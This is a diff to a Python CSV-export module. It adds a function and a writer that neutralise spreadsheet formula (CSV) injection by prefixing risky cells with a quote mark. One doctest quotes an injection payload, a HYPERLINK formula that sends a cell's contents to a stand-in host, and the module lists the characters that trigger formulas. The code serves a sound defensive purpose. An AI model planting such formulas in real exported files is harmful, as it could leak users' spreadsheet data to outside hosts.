@@ -31,6 +31,7 @@ import csv
 import datetime as dt
 import os
 import re
+import typing
 import unicodedata
 from dataclasses import dataclass
 from pathlib import Path
@@ -55,6 +56,9 @@ __all__ = [
     "read_registry",
     "read_records",
     "read_records_with_lines",
+    "FORMULA_START",
+    "spreadsheet_safe",
+    "csv_writer",
 ]
 
 PathLike = str | os.PathLike[str]
@@ -624,3 +628,53 @@ def _record_rows(path: Path, layout: _Layout, system: str | None) -> Iterator[tu
         yield line, Record(system=row_system, record_id=record_id, operation=operation,
                            payload=payload, **values)
 
+
+
+# ---------------------------------------------------------------------------
+# writing: the one escaping every CSV the project exports goes through
+
+#: a spreadsheet runs a cell that starts with one of these as a formula (CSV injection)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """A cell a spreadsheet shows as text: text starting like a formula gets a leading ``'``.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/"&A1,"open")'))
+    '=HYPERLINK("http://x.example/"&A1,"open")
+    >>> [spreadsheet_safe(v) for v in ('+1', '-1', '@SUM(A1)', chr(9) + 'x', chr(13) + 'x', '山田', 'R-1', '')]
+    ["'+1", "'-1", "'@SUM(A1)", "'\\tx", "'\\rx", '山田', 'R-1', '']
+    >>> spreadsheet_safe(-3), spreadsheet_safe(None)
+    (-3, None)
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_START):
+        return "'" + value
+    return value
+
+
+class SafeCsvWriter:
+    """:func:`csv.writer` whose every cell passes :func:`spreadsheet_safe`.
+
+    The csv module quotes a cell only for the characters of its own line
+    terminator, so with ``lineterminator="\\n"`` a bare CR inside a cell would
+    split the row for every reader: such CRs become LF (which is quoted).
+    """
+
+    def __init__(self, handle: "typing.IO[str]", **fmtparams: object) -> None:
+        self._writer = csv.writer(handle, **fmtparams)  # type: ignore[arg-type]
+        self._fold_cr = "\r" not in str(fmtparams.get("lineterminator", "\r\n"))
+
+    def writerow(self, row: Sequence[object]) -> object:
+        cells = [spreadsheet_safe(cell) for cell in row]
+        if self._fold_cr:
+            cells = [c.replace("\r\n", "\n").replace("\r", "\n") if isinstance(c, str) else c for c in cells]
+        return self._writer.writerow(cells)
+
+    def writerows(self, rows: "typing.Iterable[Sequence[object]]") -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(handle: "typing.IO[str]", **fmtparams: object) -> SafeCsvWriter:
+    """The CSV writer for every file the project exports (reports, verdicts, audit log, reconciliation)."""
+    return SafeCsvWriter(handle, **fmtparams)
